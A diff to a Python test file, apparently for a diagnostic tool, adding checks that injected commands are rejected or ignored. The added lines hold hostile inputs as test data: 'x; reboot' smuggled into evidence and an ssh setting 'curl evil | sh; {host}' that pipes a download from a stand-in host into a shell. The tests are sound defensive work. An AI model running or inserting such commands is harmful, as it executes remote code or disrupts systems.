@@ -305,6 +305,11 @@ def test_evidence_that_lacks_a_part_is_never_healthy() -> None:
             assert troubles(judge(LINKS, evidence(lambda facts, p=place, w=what: facts[p].pop(w)))), (place, what)  # type: ignore[misc]
         if place != "site":
             assert troubles(judge(LINKS, evidence(lambda facts, p=place: facts.pop(p)))), place  # type: ignore[misc]
+    with pytest.raises(ArbaroError, match="calls something"):
+        judged(Evidence("x; reboot", evidence().facts, KEPT["wanted"]))
+    foreign = {**KEPT["wanted"], "site": KEPT["wanted"]["site"] | {"ssh": "curl evil | sh; {host}"}}
+    (cause, *_) = judged(Evidence(KEPT["about"], evidence(ILL["tun-missing"]).facts, foreign)).findings
+    assert cause.run.startswith("arbaro ssh test ")
     with pytest.raises(ArbaroError, match="not the doctor's"):
         judged(Evidence("x"))
 
